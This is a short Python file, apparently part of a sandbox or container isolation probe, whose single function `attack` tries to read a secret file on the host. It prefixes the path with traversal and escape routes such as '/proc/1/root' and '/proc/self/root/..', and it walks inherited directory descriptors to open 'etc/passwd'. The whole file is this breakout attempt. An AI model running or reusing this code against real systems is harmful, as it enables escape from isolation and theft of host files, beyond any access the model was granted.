"""Read a file of the host, by its path and through every directory that might lead to it."""
import os


def attack(target):
    paths = [target["secret_file"]]
    paths += [f"{up}{target['secret_file']}" for up in ("/..", "/../..", "/tmp/../..", "/proc/1/root", "/proc/self/root/..")]
    for path in paths:
        try:
            if open(path).read() == target["secret"]:
                return path
        except OSError:
            pass
    for fd in range(1024):
        try:
            return os.open("etc/passwd", os.O_RDONLY, dir_fd=fd)
        except OSError:
            pass
